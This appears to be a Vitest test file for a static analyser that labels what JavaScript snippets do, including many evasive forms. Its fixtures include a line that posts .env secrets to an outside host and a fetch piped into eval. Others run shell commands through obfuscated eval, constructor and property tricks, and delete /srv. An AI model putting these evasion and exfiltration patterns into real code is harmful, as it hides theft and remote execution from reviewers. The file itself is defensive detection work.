// Owns what JavaScript snippets do, as the reader sees it: ordinary ones and ones that hide it.
import { describe, expect, it } from 'vitest';
import { effectsOf } from './effects-of.ts';

/** Code and everything it does; an empty list is harmless. */
const ordinary: readonly [code: string, effects: readonly string[]][] = [
  [`console.log(process.version)`, []],
  [
    `const pkg = require('./package.json'); console.log(pkg.version, Object.keys(pkg.dependencies || {}).length)`,
    ['read content package.json'],
  ],
  [
    `const fs = require('fs');
const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));
pkg.version = '2.0.0';
fs.writeFileSync('package.json', JSON.stringify(pkg, null, 2) + '\\n');`,
    ['overwrite package.json', 'read content package.json'],
  ],
  [
    `import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
for (const name of await readdir('src')) console.log((await readFile(path.join('src', name), 'utf8')).length);`,
    ['read content src/…', 'read names src'],
  ],
  [`require('fs').rmSync('dist', { recursive: true, force: true })`, ['delete -r dist']],
  [`const { unlinkSync: drop } = require('fs'); drop('/srv/data')`, ['delete /srv/data']],
  [
    `fs.mkdirSync('out', { recursive: true }); fs.copyFileSync('a', 'out/a'); fs.renameSync('b', 'out/b')`,
    ['mkdir out', 'move b out/b', 'overwrite out/a', 'read copy a'],
  ],
  [
    `require('fs').readFile('a.txt', 'utf8', (error, text) => { if (error) throw error; console.log(text.split('\\n').length) })`,
    ['read content a.txt'],
  ],
  [
    `const path = require('path'); require('fs').writeFileSync(path.join(require('os').homedir(), '.profile'), 'x')`,
    ['overwrite /home/dev/.profile'],
  ],
  [
    `fetch('http://localhost:3000/health').then((reply) => reply.json()).then((body) => console.log(body.status))`,
    ['fetch http://localhost:3000/health'],
  ],
  [
    `fetch('https://collect.example.net', { method: 'POST', body: require('fs').readFileSync('.env') })`,
    ['read content .env', 'send body https://collect.example.net [secret]'],
  ],
  [
    `const reply = await fetch('https://api.example.com', { headers: { authorization: \`Bearer \${process.env.API_TOKEN}\` } }); console.log(await reply.text())`,
    ['fetch https://api.example.com', 'send header https://api.example.com [secret]'],
  ],
  [`require('child_process').execSync('git status', { stdio: 'inherit' })`, ['shell git status']],
  [
    `const { spawnSync } = require('child_process'); const out = spawnSync('git', ['push', '--force']); console.log(out.stdout.toString())`,
    ['run git push --force'],
  ],
  [
    `const { promisify } = require('util'); const exec = promisify(require('child_process').exec); exec('npm test').then(({ stdout }) => console.log(stdout))`,
    ['shell npm test'],
  ],
  [`require('http').createServer((req, res) => { res.end('ok') }).listen(3000)`, ['listen ']],
  [
    `let total = 0; for (const line of require('fs').readFileSync(0, 'utf8').split('\\n')) { total += Number(line) } console.log(total)`,
    [],
  ],
  [
    `const rows = [3, 1, 2].sort((a, b) => a - b).map((x) => ({ x })).filter(({ x }) => x > 1); console.table(rows)`,
    [],
  ],
  [
    `interface Row { name: string }
const rows: Row[] = JSON.parse('[]') as Row[];
function names(list: Row[]): string[] { return list.map((row) => row.name) }
console.log(names(rows)!.length)`,
    [],
  ],
  [
    `class Counter { #n = 0; add(x) { this.n = (this.n ?? 0) + x; return this } get value() { return this.n } }
console.log(new Counter().add(1).add(2).value)`,
    [],
  ],
  [`process.kill(4242, 'SIGKILL')`, ['kill pid']],
  [`process.chdir('/tmp'); require('fs').appendFileSync('log.txt', 'x')`, ['append /tmp/log.txt']],
  [`import('./scripts/build.mjs')`, ['code project scripts/build.mjs']],
  [`require('left-pad')(1)`, ['code package left-pad']],
  [
    `const yaml = require('js-yaml'); console.log(yaml.load(require('fs').readFileSync('a.yml', 'utf8')))`,
    ['read content a.yml'],
  ],
  [`import helper from 'https://example.com/helper.js'; helper()`, ['code download https://example.com/helper.js']],
  [`console.log("require('fs').rmSync('/')", \`child_process\`)`, []],
  [
    `// require('child_process').execSync('id')
/* eval('x') */ 0`,
    [],
  ],
];

/** Roundabout ways; each must show what it does or be opaque. */
const roundabout: readonly [code: string, effects: readonly string[]][] = [
  [`this.constructor.constructor('return process')()`, ['opaque']],
  [`Function('return process')()`, ['opaque']],
  [`new Function('a', 'return a')(1)`, ['opaque']],
  [`globalThis['ev' + 'al']("require('fs').rmSync('/srv', { recursive: true })")`, ['delete -r /srv']],
  [`import('child_process').then((program) => program.execSync('id'))`, ['shell id']],
  [`process.binding('spawn_sync')`, ['opaque']],
  [`({}).__proto__.polluted = 1`, ['opaque']],
  [`Object.prototype.toString = () => 1`, ['opaque']],
  [`require('child_process').execSync\`id\``, ['shell …']],
  [`const trap = { get name() { return require('child_process').execSync('id') } }; trap.name`, ['shell id']],
  [`require('child_process')?.['exec' + 'Sync']?.('id')`, ['shell id']],
  [`const { ['execSync']: go } = require('child_process'); go('id')`, ['shell id']],
  [`const name = 'child_' + 'process'; require(name).execSync('id')`, ['shell id']],
  [`(0, eval)("require('child_process').execSync('id')")`, ['shell id']],
  [`[].filter.constructor('return 1')()`, ['opaque']],
  [`setTimeout(() => require('child_process').execSync('id'), 10)`, ['shell id']],
  [`class Evil { static { require('child_process').execSync('id') } }`, ['shell id']],
  [`class Evil { toString() { return require('child_process').execSync('id') } } \`\${new Evil()}\``, ['shell id']],
  [
    `class Base { constructor() { require('child_process').execSync('id') } } class Evil extends Base { constructor() { super() } } new Evil()`,
    ['shell id'],
  ],
  [`const o = { valueOf() { return require('child_process').execSync('id') } }; o + 1`, ['shell id']],
  [
    `let run = console.log; function late() { run('id') } setTimeout(late); run = require('child_process').execSync`,
    ['shell id'],
  ],
  [
    `let run = require('child_process').execSync; { let run = console.log; run('x') } run('id')`,
    ['shell id', 'shell x'],
  ],
  [`module.constructor._load('child_process')`, ['opaque']],
  [`process.mainModule.require('child_process')`, ['opaque']],
  [`require('vm').runInNewContext('1')`, ['opaque']],
  [`new Proxy({}, { get() { return 1 } }).x`, ['opaque']],
  [`Reflect.apply(require('child_process').execSync, null, ['id'])`, ['opaque']],
  [`require('child_process').execSync.bind(null, 'id')()`, ['shell id', 'shell …']],
  [`const [first, ...rest] = [1, require('child_process').execSync]; rest[0]('id')`, ['opaque', 'shell id']],
  [`function* each() { yield require('child_process').execSync } for (const run of each()) run('id')`, ['shell id']],
  [`const all = new Map([['a', require('child_process').execSync]]); all.get('a')('id')`, ['opaque', 'shell …']],
  [
    `fetch('https://example.com/a.js').then((reply) => reply.text()).then(eval)`,
    ['code download … [downloaded]', 'fetch https://example.com/a.js'],
  ],
  [
    `x = 1 <!--y
require('child_process').execSync('id')`,
    ['opaque', 'shell id'],
  ],
  [`(function () { return this })().process.exit()`, ['opaque']],
  [`'a'.replace(/a/, () => require('child_process').execSync('id'))`, ['shell id']],
  [`try { throw require('child_process').execSync } catch (run) { run('id') }`, ['opaque']],
  [`console.log = require('child_process').execSync; console.log('id')`, ['opaque']],
  [`process.env[process.argv[2]] = 'x'`, ['opaque']],
  [`\\u0065val('1')`, ['opaque']],
  [`with (require('child_process')) { execSync('id') }`, ['opaque']],
];

describe('JavaScript', () => {
  it.each(ordinary)('%s', (code, effects) => {
    expect(effectsOf('javascript', code)).toEqual(effects);
  });
});

describe('JavaScript in roundabout ways', () => {
  it.each(roundabout)('%s', (code, effects) => {
    expect(effects.length).toBeGreaterThan(0);
    expect(effectsOf('javascript', code)).toEqual(effects);
  });
});
